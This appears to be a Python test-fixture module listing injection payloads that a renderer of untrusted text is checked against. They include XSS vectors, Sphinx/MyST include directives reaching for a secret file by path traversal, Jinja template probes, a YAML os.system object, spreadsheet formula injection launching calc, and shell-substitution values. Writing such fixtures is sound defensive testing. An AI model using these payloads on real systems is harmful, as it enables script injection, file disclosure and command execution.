"""Texts that some reader of text would obey: what a respondent, a label or a file's name may hold."""

from __future__ import annotations

RAN = "window.RAN=1"
"""What every script among the payloads does; a page in which it ran is found by it."""

SECRET = "TOPSECRET"  # noqa: S105  # no password: what a file holds that no page may show
"""What the files hold that payloads try to include."""

FENCES = [
    f"x\n{mark * length}\n\n{mark * length}{{raw}} html\n<script>{RAN}</script>\n"
    for mark in "`:"
    for length in (3, 6, 10)
]
"""Ends of code fences and directives, followed by a directive that writes HTML."""

PAYLOADS = [
    *FENCES,
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f"<svg onload={RAN}>",
    f"</script><script>{RAN}</script>",
    f"<details open ontoggle={RAN}>",
    f"'\"><iframe srcdoc='<script>{RAN}</script>'>",
    f"<a href=javascript:{RAN}>x</a>",
    "y\n```{include} ../../../../secret.txt\n```\n",
    "y\n```{literalinclude} ../../../../secret.txt\n```\n",
    "{include}`../secret.txt` {download}`../../../../secret.txt`",
    f"```{{eval-rst}}\n.. raw:: html\n\n   <script>{RAN}</script>\n```",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    f"[click](javascript:{RAN})",
    "![p](http://127.0.0.1:9/p.png)",
    f"<!-- c --><![CDATA[ <script>{RAN}</script> ]]>",
    "a\u202etxt.exe",
    "\x1b[31mred\x07 \x9b2J",
    "[bold]x[/bold] [/b]",
    r"$\href{javascript:alert(1)}{x}$ \(a\)",
    "--- &anchor !!python/object *alias: # y",
    "%load_ext os",
    "!ls",
    '"]); raise SystemExit #',
    "''' + str(1/0) + '''",
    "\\",
    "{folder!r} {0} {}",
    "z" * 3000,
    "<style>body{display:none}</style>",
    "<base href=http://127.0.0.1:9/><link rel=stylesheet href=http://127.0.0.1:9/c.css>",
    "&lt;b&gt; &amp;nbsp;",
    f"</textarea></title></style><math><mtext><img src=x onerror={RAN}>",
    f"{{raw}}`<script>{RAN}</script>` {{math}}`x` {{ref}}`genindex` <http://127.0.0.1:9/a>",
    f"[a]: javascript:{RAN}\n\n[a] [^1] |sub|_\n\n[^1]: http://127.0.0.1:9/b",
    "$$\\input{../secret.txt} \\frac$$ $x_$ \\unicode{x}",
    "\x1b]8;;http://127.0.0.1:9/\x07link\x1b]8;;\x07\r over",
    "\u2066isolated\u2069 \u2028 next \ufeff",
    "!!python/object/apply:os.system ['touch ran']",
    "=HYPERLINK('http://127.0.0.1:9/?'&A1; 'x')",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "-- | a | b |\n|---|---|\n# Heading\n- item\n> quote",
    "%(name)s %s $(touch ran) `touch ran` ${HOME} ; touch ran",
    r"\u003cscript\u003e \x3cscript\x3e \N{BULLET} %3Cscript%3E",
    '"""\nimport os; os.system(\'touch ran\')\n"""',
]
"""What a text from outside may hold."""

NAMES = [text for text in PAYLOADS if len(text) < 200 and "/" not in text]
"""Those that can be the name of a file or a folder."""

TITLE = f"<script>{RAN}</script> {{{{ 7*7 }}}} $a$ `b` </title><img src=x onerror={RAN}>"
"""A title that is markup to HTML, Jinja, formulas and Markdown at once."""
